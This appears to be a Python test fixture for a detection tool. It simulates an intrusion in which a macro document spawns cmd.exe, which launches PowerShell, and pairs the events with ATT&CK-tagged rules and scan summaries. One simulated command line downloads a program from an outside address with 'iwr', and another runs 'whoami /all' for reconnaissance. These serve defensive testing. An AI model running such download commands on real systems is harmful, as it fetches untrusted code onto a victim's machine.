"""A small intrusion of our own making over three hosts, with what a run gathers around its findings."""

from __future__ import annotations

from haidang.findings.gathering import Trails
from haidang.findings.model import Finding, FindingRule, Match, ScanSummary, Source
from haidang.findings.trails import about
from haidang.limits import DEFAULT_LIMITS

__all__ = ["DOCUMENT", "SHELL", "STEPS", "T0", "story", "story_summary"]

PC = "VP-PC-031.songlo.example"
SERVER = "HT-FS01.songlo.example"
USER = "SONGLO\\thu.lm"
T0 = 1_794_448_800_000
"""2026-11-12T02:00:00Z in milliseconds."""


def guid(number: int) -> str:
    """Return the GUID of the process with that number, as Sysmon writes it."""
    return f"{{5c1e7a42-0000-6af5-0000-{number:012}}}"


def started(
    number: int, parent: int, image: str, command: str, *, host: str = PC, parent_image: str = ""
) -> dict[str, object]:
    """Return the event of a process start."""
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Computer": host,
        "ProcessGuid": guid(number),
        "ProcessId": number,
        "ParentProcessGuid": guid(parent),
        "ParentProcessId": parent,
        "Image": image,
        "CommandLine": command,
        "User": USER,
        "ParentImage": parent_image,
    }


DOCUMENT = started(
    100,
    90,
    r"C:\Office\WINWORD.EXE",
    '"WINWORD.EXE" /n moi-hop.docm',
    parent_image=r"C:\Windows\explorer.exe",
)
SHELL = started(110, 100, r"C:\Windows\System32\cmd.exe", "cmd.exe /c ket-noi.bat")
POWER = started(120, 110, r"C:\Windows\powershell.exe", "powershell.exe -nop -c iwr http://192.0.2.7/a")
QUIET = started(121, 110, r"C:\Windows\System32\timeout.exe", "timeout 5")
CHILD = started(130, 120, r"C:\Windows\System32\whoami.exe", "whoami /all")
UNRELATED = started(500, 400, r"C:\Windows\System32\notepad.exe", "notepad.exe", host=SERVER)

STEPS: tuple[tuple[dict[str, object], str], ...] = (
    (SHELL, "Shell Started by a Document"),
    (POWER, "PowerShell Fetches a Program"),
    (
        {
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "Computer": PC, "User": USER,
            "ProcessGuid": guid(120), "ProcessId": 120, "Image": r"C:\Windows\powershell.exe",
            "Initiated": "true", "SourceIp": "10.20.4.31", "DestinationIp": "192.0.2.7",
            "DestinationPort": 80,
        },
        "Program Talks to an Outside Address",
    ),
    (
        {
            "Channel": "Security", "EventID": 4624, "Computer": SERVER, "LogonType": 3,
            "TargetUserName": "thu.lm", "TargetDomainName": "SONGLO", "IpAddress": "10.20.4.31",
        },
        "Logon From an Unusual Host",
    ),
)  # fmt: skip
RULES = {
    "Shell Started by a Document": FindingRule(
        "s-1", "Shell Started by a Document", "high", "test", ("attack.execution", "attack.t1204.002")
    ),
    "PowerShell Fetches a Program": FindingRule(
        "s-2",
        "PowerShell Fetches a Program",
        "critical",
        "test",
        ("attack.execution", "attack.command-and-control", "attack.t1059.001", "attack.t1105"),
    ),
    "Program Talks to an Outside Address": FindingRule(
        "s-3", "Program Talks to an Outside Address", "medium", "test", ("attack.command-and-control",)
    ),
    "Logon From an Unusual Host": FindingRule(
        "s-4", "Logon From an Unusual Host", "medium", "test", ("attack.lateral-movement", "attack.t1021.002")
    ),
}


def story() -> list[Finding]:
    """Return the findings, in order; each event holds what its rule looked at and no more."""
    found = []
    for number, (event, title) in enumerate(STEPS):
        time = T0 + number * 60_000
        host = str(event["Computer"])
        told = about("windows", event, host=host, time=time)
        looked = {"EventID": event["EventID"], **({"Image": event["Image"]} if "Image" in event else {})}
        found.append(
            Finding(
                f"{number:032x}",
                RULES[title],
                f"2026-11-12T02:{number:02}:00Z",
                host,
                Source("nhat-ky/may-tram.ndjson", number + 1),
                looked,
                (Match("EventID", event["EventID"], f"equals {event['EventID']}"),),
                "windows",
                about=told,
            )
        )
    return found


def story_summary() -> ScanSummary:
    """Return the account of a run that gathered the starts and moves around the findings."""
    trails = Trails(DEFAULT_LIMITS)
    for at, event in enumerate((DOCUMENT, SHELL, POWER, QUIET, CHILD, UNRELATED)):
        trails.gather(about("windows", event, host=str(event["Computer"]), time=T0 - 60_000 + at * 1_000))
    for item in story():
        if item.about is not None:
            trails.want(item.host, item.about.process, T0 + 300_000)
            trails.gather(item.about._replace(start=None))
    for number in range(5):
        everyday = {
            "EventID": 4624, "LogonType": 3, "TargetDomainName": "SONGLO", "TargetUserName": f"nv{number}",
            "IpAddress": f"10.20.4.{40 + number}",
        }  # fmt: skip
        trails.gather(about("windows", everyday, host=SERVER, time=T0 + number))
    return ScanSummary(rules=4, events=100, findings=4, trails=trails)
